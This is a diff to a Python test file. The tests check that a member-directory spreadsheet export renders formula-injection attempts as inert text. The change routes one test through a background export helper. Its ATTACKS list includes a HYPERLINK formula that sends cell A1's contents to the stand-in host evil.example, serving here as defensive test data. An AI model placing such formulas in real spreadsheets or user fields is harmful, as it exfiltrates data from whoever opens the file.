@@ -14,6 +14,7 @@ from lvzhi.core.xlsx import put, safe_row, save
 from lvzhi.dashboard.tests.test_activity_stats import YEAR, held
 from lvzhi.ledger.taxonomy import ActivityKind
 from lvzhi.org.models import Member
+from lvzhi.org.tests.test_export import export
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点我")',
@@ -52,8 +53,8 @@ def test_the_kit_writes_every_formula_trigger_as_quoted_text(write_only):
 
 def test_member_text_in_the_directory_export_stays_text(world):
     Member.objects.filter(pk=world.member.pk).update(wechat=ATTACKS[0][:40], expertise=ATTACKS[1])
-    response = world.client(Role.MEMBER_AFFAIRS).get(reverse("org:directory_export"))
-    found = cells(response.content)
+    response = export(world.client(Role.MEMBER_AFFAIRS))  # the background export, as the directory's button runs it
+    found = cells(b"".join(response.streaming_content) if response.streaming else response.content)
     assert_inert(found, ATTACKS[0][:40])
     assert_inert(found, ATTACKS[1])
     assert not any(c.data_type == "f" for c in found)
